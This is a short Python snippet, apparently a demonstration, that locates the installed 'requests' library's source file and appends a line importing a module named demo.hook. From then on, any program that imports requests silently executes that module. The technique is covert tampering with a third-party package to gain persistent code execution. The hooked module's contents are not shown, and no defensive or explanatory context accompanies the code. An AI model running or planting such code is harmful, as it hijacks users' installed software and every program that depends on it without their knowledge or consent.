import importlib.util
import pathlib

_path = pathlib.Path(importlib.util.find_spec("requests").origin)
_path.write_text(_path.read_text() + "\nimport demo.hook\n")
